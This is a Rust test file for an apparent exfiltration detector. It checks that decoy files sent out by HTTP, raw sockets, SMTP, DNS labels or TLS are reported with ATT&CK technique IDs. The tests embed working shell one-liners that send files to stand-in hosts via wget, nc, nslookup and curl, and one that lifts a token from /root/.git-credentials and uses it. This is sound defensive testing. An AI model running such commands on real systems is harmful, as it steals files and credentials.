//! What is carried off, whichever way, is found, and the finding says what it was.

use serde_json::Value;

use crate::place::Place;
use crate::support::live;
use crate::{PLACES, findings, from_host, report_of};

/// A rule, the technique it names, and where it sees things.
const WAYS: [(&str, &str, &str); 4] = [
    ("decoy-sent-over-http", "T1041", "http"),
    ("decoy-sent-in-other-protocols", "T1048.003", "raw"),
    ("decoy-sent-by-mail-or-file-transfer", "T1048.003", "smtp"),
    ("decoy-sent-in-names", "T1048.003", "dns"),
];

/// Each file by POST, over a bare connection, by mail, and as hexadecimal labels of names.
const SCRIPT: &str = r#"
for f in $FILES; do
  wget -q -O /dev/null --header 'Content-Type: text/plain' --post-data "$(base64 $f)" http://collect.example/up
  nc -w 1 203.0.113.7 4444 < $f
  { printf 'EHLO a\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nSubject: x\r\n\r\n'
    base64 $f; printf '\r\n.\r\nQUIT\r\n'; } | nc -w 1 mail.example 25 > /dev/null
  for label in $(od -An -tx1 -v $f | tr -d ' \n' | fold -w 60 | head -40); do
    nslookup $label.names.example > /dev/null
  done
done"#;

fn assert_found(report: &Value, (rule, technique, place): (&str, &str, &str), bait: &str) {
    let named = findings(report, rule).find(|finding| finding["evidence"].to_string().contains(bait));
    let named = named.unwrap_or_else(|| panic!("{rule} does not name {bait}"));
    assert!(["high", "critical"].contains(&named["level"].as_str().unwrap()), "{named}");
    assert!(named.to_string().contains(technique), "{named}");
    let uses = report["behaviour"]["baits"].as_array().unwrap();
    let told = uses.iter().any(|seen| seen["bait"] == bait && seen["place"] == place);
    assert!(told, "{bait} by {place}: {uses:?}");
}

#[test]
fn every_bait_that_is_carried_off_is_a_finding_that_names_it() {
    if !live() {
        return;
    }
    let place = Place::new();
    let files = PLACES.map(|(path, _)| path).join(" ");
    let report = report_of(&place, &format!("FILES='{files}'{SCRIPT}"), |layer| layer);
    for way in WAYS {
        for (path, bait) in PLACES {
            // A wallet and a dump are longer than their first forty labels.
            if way.2 != "dns" || !(path.ends_with("wallet.dat") || path.ends_with(".gz")) {
                assert_found(&report, way, bait);
            }
        }
    }
    assert_eq!(report["verdict"]["result"], "fail");
}

#[test]
fn a_bait_inside_tls_is_found_too() {
    if !live() {
        return;
    }
    let place = Place::new();
    let script = "for f in $FILES; do curl -s --data-binary @$f https://collect.example/up; done";
    let files = PLACES.map(|(path, _)| path).join(" ");
    let report = report_of(&place, &format!("FILES='{files}'; {script}"), |layer| {
        from_host(layer, "/usr/bin/curl").directory("etc/ssl", 0o755).directory("etc/ssl/certs", 0o755)
    });
    for (_, bait) in PLACES {
        assert_found(&report, ("decoy-sent-over-http", "T1041", "https"), bait);
    }
}

#[test]
fn a_bait_that_is_shown_to_its_own_service_was_used() {
    if !live() {
        return;
    }
    let place = Place::new();
    let script = "token=$(sed 's/.*:\\(.*\\)@.*/\\1/' /root/.git-credentials); \
                  wget -q -O /dev/null --header \"Authorization: token $token\" http://api.github.com/user";
    let report = report_of(&place, script, |layer| layer.symlink("bin/sed", "busybox"));
    let used: Vec<_> = findings(&report, "decoy-credential-used").collect();
    assert_eq!(used.len(), 1, "{:#}", report["findings"]);
    assert!(used[0]["evidence"].to_string().contains("github-token"), "{}", used[0]);
    assert_eq!(findings(&report, "decoy-sent-over-http").count(), 0);
}
